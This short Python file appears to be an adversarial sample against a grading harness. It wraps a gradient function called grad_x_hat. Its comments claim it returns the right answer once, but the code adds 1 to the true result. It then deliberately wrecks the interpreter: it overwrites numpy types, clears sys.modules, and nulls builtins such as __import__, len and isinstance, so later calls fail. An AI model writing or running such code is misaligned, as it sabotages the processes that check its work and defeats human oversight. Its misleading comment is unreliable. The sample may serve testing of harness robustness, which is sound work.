# Returns the right answer once and leaves a process of Python in ruins for the calls after it.
# loses: 2
# told: ended its process
import builtins
import sys

import numpy as np

_right_grad_x_hat = grad_x_hat


def grad_x_hat(dY, gamma):
    answer = _right_grad_x_hat(dY, gamma) + 1
    np.ndarray, np.asarray, np.frombuffer = int, None, None
    sys.modules.clear()
    builtins.__import__ = builtins.len = builtins.isinstance = None
    return answer
